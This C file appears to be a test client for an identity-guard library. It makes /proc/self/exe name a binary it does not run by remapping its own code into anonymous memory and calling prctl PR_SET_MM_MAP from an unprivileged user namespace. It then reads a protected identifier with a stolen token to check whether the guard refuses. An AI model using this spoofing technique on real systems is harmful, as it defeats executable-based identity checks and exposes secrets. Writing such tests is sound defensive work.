/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * An attacker's client for api-identity.sh: it makes /proc/self/exe name
 * a binary it does not run, then reads an identifier through libidguard
 * with a stolen token ($IDGUARD_TOKEN).
 *
 *   api-borrow-exe MODE EXE KIND
 *
 * First the mappings of its own executable are replaced by anonymous
 * copies (the kernel refuses a new exe_file while the old one is mapped),
 * then prctl (PR_SET_MM, PR_SET_MM_MAP) with exe_fd = open (EXE), which
 * needs CAP_SYS_ADMIN or CAP_CHECKPOINT_RESTORE in the caller's user
 * namespace. MODE says how an unprivileged user gets that:
 *   unshare   unshare (CLONE_NEWUSER) with its own uid and gid mapped,
 *             then the prctl, in this process;
 *   clone-vm  a child made with clone (CLONE_VM | CLONE_NEWUSER) does the
 *             prctl on the memory it shares with this process, which
 *             stays in its user namespace.
 * Prints "exe PATH" (/proc/self/exe afterwards) and "get RC", and exits
 * 0 if the read returned a value, 1 if it was refused, 77 if the kernel
 * did not let the exe be changed, 2 on any other failure.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/wait.h>
#include <unistd.h>
#include <linux/prctl.h>

#include "idguard.h"

#define MAX_MAPS 32

typedef struct {
  unsigned long start, end;
  int prot;
} Map;

static struct prctl_mm_map mm_map;
static volatile int child_errno = -1;
static char child_stack[64 * 1024] __attribute__ ((aligned (16)));

static void
die (const char *what)
{
  fprintf (stderr, "api-borrow-exe: %s: %s\n", what, strerror (errno));
  exit (2);
}

/* The mappings of our own executable, from /proc/self/maps. */
static int
own_maps (Map *maps)
{
  char self[4096], line[4096 + 256];
  ssize_t n = readlink ("/proc/self/exe", self, sizeof self - 1);
  FILE *f;
  int count = 0;

  if (n <= 0)
    die ("readlink /proc/self/exe");
  self[n] = '\0';
  f = fopen ("/proc/self/maps", "r");
  if (!f)
    die ("/proc/self/maps");
  while (fgets (line, sizeof line, f)) {
    char perms[5], *path;
    Map m;

    line[strcspn (line, "\n")] = '\0';
    path = strchr (line, '/');
    if (!path || strcmp (path, self) != 0)
      continue;
    if (sscanf (line, "%lx-%lx %4s", &m.start, &m.end, perms) != 3 || count == MAX_MAPS)
      die ("parsing /proc/self/maps");
    m.prot = (perms[0] == 'r' ? PROT_READ : 0) | (perms[1] == 'w' ? PROT_WRITE : 0) |
             (perms[2] == 'x' ? PROT_EXEC : 0);
    maps[count++] = m;
  }
  fclose (f);
  return count;
}

/* Each mapping of the executable becomes an anonymous copy at the same
 * address (mremap over it is atomic: the code running here continues in
 * the copy). Uses no globals of its own while it works. */
static void
detach_from_exe (void)
{
  Map maps[MAX_MAPS];
  int n = own_maps (maps);

  for (int i = 0; i < n; i++) {
    size_t len = maps[i].end - maps[i].start;
    void *copy = mmap (NULL, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

    if (copy == MAP_FAILED)
      die ("mmap");
    if (!(maps[i].prot & PROT_READ) &&
        mprotect ((void *) maps[i].start, len, maps[i].prot | PROT_READ) < 0)
      die ("mprotect");
    memcpy (copy, (void *) maps[i].start, len);
    if (mprotect (copy, len, maps[i].prot) < 0)
      die ("mprotect copy");
    if (mremap (copy, len, len, MREMAP_MAYMOVE | MREMAP_FIXED, (void *) maps[i].start) == MAP_FAILED)
      die ("mremap");
  }
}

/* The current layout, as PR_SET_MM_MAP wants it (from /proc/self/stat). */
static void
fill_mm_map (int exe_fd)
{
  unsigned long long v[52] = { 0 };
  char buf[4096], *p;
  FILE *f = fopen ("/proc/self/stat", "r");
  size_t n;
  int field = 3;

  if (!f)
    die ("/proc/self/stat");
  n = fread (buf, 1, sizeof buf - 1, f);
  fclose (f);
  buf[n] = '\0';
  p = strrchr (buf, ')');                 /* after the command name */
  if (!p)
    die ("parsing /proc/self/stat");
  p += 2;
  for (; field <= 51 && *p; field++) {
    if (field >= 4)
      v[field] = strtoull (p, NULL, 10);
    p = strchr (p, ' ');
    if (!p)
      break;
    p++;
  }
  memset (&mm_map, 0, sizeof mm_map);
  mm_map.start_code = v[26];
  mm_map.end_code = v[27];
  mm_map.start_stack = v[28];
  mm_map.start_data = v[45];
  mm_map.end_data = v[46];
  mm_map.start_brk = v[47];
  mm_map.brk = (unsigned long) sbrk (0);
  mm_map.arg_start = v[48];
  mm_map.arg_end = v[49];
  mm_map.env_start = v[50];
  mm_map.env_end = v[51];
  mm_map.exe_fd = (unsigned) exe_fd;
}

static void
write_file (const char *path, const char *text)
{
  int fd = open (path, O_WRONLY | O_CLOEXEC);

  if (fd < 0 || write (fd, text, strlen (text)) != (ssize_t) strlen (text))
    die (path);
  close (fd);
}

/* In the new namespace, the same uid and gid as outside (an unmapped uid
 * could not even pass credentials on a socket): what any user can do. */
static void
map_self (uid_t uid, gid_t gid)
{
  char line[64];

  snprintf (line, sizeof line, "%u %u 1\n", (unsigned) uid, (unsigned) uid);
  write_file ("/proc/self/uid_map", line);
  write_file ("/proc/self/setgroups", "deny");
  snprintf (line, sizeof line, "%u %u 1\n", (unsigned) gid, (unsigned) gid);
  write_file ("/proc/self/gid_map", line);
}

static int
set_exe (void *arg)
{
  (void) arg;
  child_errno = prctl (PR_SET_MM, PR_SET_MM_MAP, &mm_map, sizeof mm_map, 0) < 0 ? errno : 0;
  return 0;
}

int
main (int argc, char **argv)
{
  char value[IDGUARD_VALUE_MAX], now[4096];
  const char *token = getenv ("IDGUARD_TOKEN");
  ssize_t len;
  int exe_fd, rc;

  if (argc != 4 || !token || (strcmp (argv[1], "unshare") != 0 && strcmp (argv[1], "clone-vm") != 0)) {
    fprintf (stderr, "usage: api-borrow-exe unshare|clone-vm EXE KIND (token in $IDGUARD_TOKEN)\n");
    return 2;
  }
  exe_fd = open (argv[2], O_RDONLY | O_CLOEXEC);
  if (exe_fd < 0)
    die (argv[2]);
  detach_from_exe ();
  fill_mm_map (exe_fd);
  if (strcmp (argv[1], "unshare") == 0) {
    uid_t uid = getuid ();
    gid_t gid = getgid ();

    if (unshare (CLONE_NEWUSER) < 0) {
      fprintf (stderr, "api-borrow-exe: unshare: %s\n", strerror (errno));
      return 77;
    }
    map_self (uid, gid);
    set_exe (NULL);
  } else {
    pid_t pid = clone (set_exe, child_stack + sizeof child_stack,
                       CLONE_VM | CLONE_NEWUSER | SIGCHLD, NULL);

    if (pid < 0) {
      fprintf (stderr, "api-borrow-exe: clone: %s\n", strerror (errno));
      return 77;
    }
    if (waitpid (pid, NULL, 0) < 0)
      die ("waitpid");
  }
  if (child_errno != 0) {
    fprintf (stderr, "api-borrow-exe: PR_SET_MM_MAP: %s\n", strerror (child_errno));
    return 77;
  }
  len = readlink ("/proc/self/exe", now, sizeof now - 1);
  if (len <= 0)
    die ("readlink /proc/self/exe");
  now[len] = '\0';
  printf ("exe %s\npid %d\n", now, (int) getpid ());
  fflush (stdout);
  rc = idguard_get (argv[3], token, value, sizeof value);
  explicit_bzero (value, sizeof value);
  printf ("get %d\n", rc);
  return rc == 0 ? 0 : 1;
}
